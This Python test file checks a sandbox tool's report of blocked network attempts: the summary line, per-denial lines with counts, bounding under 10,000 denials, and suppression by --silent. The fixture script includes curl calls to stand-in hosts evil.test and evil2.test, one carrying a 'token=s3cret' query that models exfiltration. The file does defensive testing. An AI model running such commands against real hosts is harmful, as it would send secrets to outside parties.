"""After `keyhole run`: the summary line and the <sandbox_violations> block
(SPEC 4.8, 4.11), one line per distinct denial with its kind, target,
reason, count and the flag that would allow it; bounded; suppressed by
--silent.  Every denial here is decided before any packet leaves:
CONNECT and forward requests to hosts outside the allow-list (the proxy
refuses them before resolving), and a direct connect to TEST-NET-3
(203.0.113.0/24), refused by the connect mediator."""

import re

from run_fixtures import (EACCES, SUMMARY_RE, TRY,  # noqa: F401
    assert_errno, box, try_bin)

BLOCK_RE = re.compile(r"^<sandbox_violations>\n(.*?)^</sandbox_violations>$",
    re.M | re.S)

FS_LINE = ("filesystem denials are not reported here: an EACCES or EPERM "
    "from a file operation is the sandbox's filesystem policy (keyhole why "
    "--path PATH explains one)")

# One denied CONNECT, one denied forward, one denied direct connect.
SCRIPT = (
    "curl -sS -o /dev/null https://evil.test/ ; "
    "curl -sS -o /dev/null http://evil2.test:8080/x?token=s3cret ; "
    "%s connect 203.0.113.7 8443 ; "
    "exit 0" % TRY)


def block_lines(err):
	m = BLOCK_RE.search(err)
	assert m, err
	assert len(BLOCK_RE.findall(err)) == 1, err
	return m.group(1).splitlines()


def test_run_prints_summary_then_one_line_per_denial(box):
	res = box.run("run", "--allow-domain", "api.test", "--read-file", TRY,
	    "--", "sh", "-c", SCRIPT)
	assert res.rc == 0, res
	m = SUMMARY_RE.search(res.err)
	assert m and m.group(1) == "3", res.err
	# the block follows the summary line directly
	assert res.err[m.end():].startswith("\n<sandbox_violations>\n"), res.err
	assert block_lines(res.err) == [
	    "network CONNECT evil.test:443: not in allow-list (1 time); to "
	    "allow it: --allow-domain evil.test "
	    "(profile: network.allow_domain)",
	    "network GET evil2.test:8080: not in allow-list (1 time); to "
	    "allow it: --allow-domain evil2.test:8080 "
	    "(profile: network.allow_domain)",
	    "direct 203.0.113.7:8443: no direct grant for this address and "
	    "port (1 time); go through the proxy (HTTPS_PROXY), or a direct "
	    "grant: --allow-domain 203.0.113.7:8443 "
	    "(profile: network.allow_domain)",
	    FS_LINE,
	]
	assert "s3cret" not in res.err


def test_repeated_denials_are_one_line_with_a_count(box):
	res = box.run("run", "--allow-domain", "api.test", "--read-file", TRY,
	    "--", "sh", "-c", "for i in 1 2 3 4; do %s connect 203.0.113.7 "
	    "8443; done; exit 0" % TRY)
	assert res.rc == 0, res
	lines = block_lines(res.err)
	assert lines[0].startswith("direct 203.0.113.7:8443: no direct grant "
	    "for this address and port (4 times); "), lines
	assert lines[1:] == [FS_LINE], lines


def test_silent_suppresses_summary_and_block(box):
	res = box.run("run", "--silent", "--allow-domain", "api.test",
	    "--read-file", TRY, "--", "sh", "-c", SCRIPT)
	assert res.rc == 0, res
	assert not SUMMARY_RE.search(res.err), res.err
	assert "sandbox_violations" not in res.err, res.err


def test_no_block_without_denials(box):
	res = box.run("run", "--allow-domain", "api.test", "--", "true")
	assert res.rc == 0, res
	assert not SUMMARY_RE.search(res.err), res.err
	assert "sandbox_violations" not in res.err, res.err


def test_blocked_network_reports_direct_denials_too(box, try_bin):
	res = box.run_try(("--block-net",), "connect", "203.0.113.7", "443")
	assert_errno(res, EACCES)
	m = SUMMARY_RE.search(res.err)
	assert m and m.group(1) == "1", res.err
	lines = block_lines(res.err)
	assert lines[0].startswith("direct 203.0.113.7:443: "), lines


def test_block_stays_bounded_with_10000_denials(box):
	# 10,000 direct connects to distinct ports: each a distinct denial.
	prog = ("import socket\n"
	    "for i in range(10000):\n"
	    "    s = socket.socket()\n"
	    "    try: s.connect(('203.0.113.7', 1 + i))\n"
	    "    except PermissionError: pass\n"
	    "    s.close()\n")
	res = box.run("run", "--allow-domain", "api.test", "--", "/usr/bin/python3",
	    "-c", prog, timeout=120)
	assert res.rc == 0, res
	m = SUMMARY_RE.search(res.err)
	assert m and m.group(1) == "10000", res.err[-2000:]
	lines = block_lines(res.err)
	# 32 distinct lines, one for the rest, the filesystem note
	assert len(lines) == 34, lines
	assert lines[32] == ("... and 9968 more denials of other targets (the "
	    "audit log, --audit-log FILE, has each)"), lines
	assert len(res.err) < 40000, len(res.err)
